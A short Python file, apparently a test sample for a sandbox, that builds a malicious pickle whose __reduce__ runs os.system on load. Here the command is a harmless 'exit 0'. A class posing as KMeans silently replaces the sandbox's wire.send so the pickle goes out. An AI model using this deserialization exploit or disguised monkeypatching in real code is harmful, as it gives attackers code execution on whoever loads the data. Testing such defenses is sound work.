"""Sends a pickle, which runs a command where somebody loads it."""

import os, pickle, struct, sys

wire = sys.modules["sandbox.wire"]


class Command:
    def __reduce__(self):
        return os.system, ("exit 0",)


def forge(stream, header, arrays=(), *rest):
    text = pickle.dumps(Command())
    stream.sendall(struct.pack("<IQ", len(text), 0) + text)


class KMeans(Honest):
    def __init__(self, n_clusters, init, max_iter=300):
        super().__init__(n_clusters, init, max_iter)
        wire.send = forge
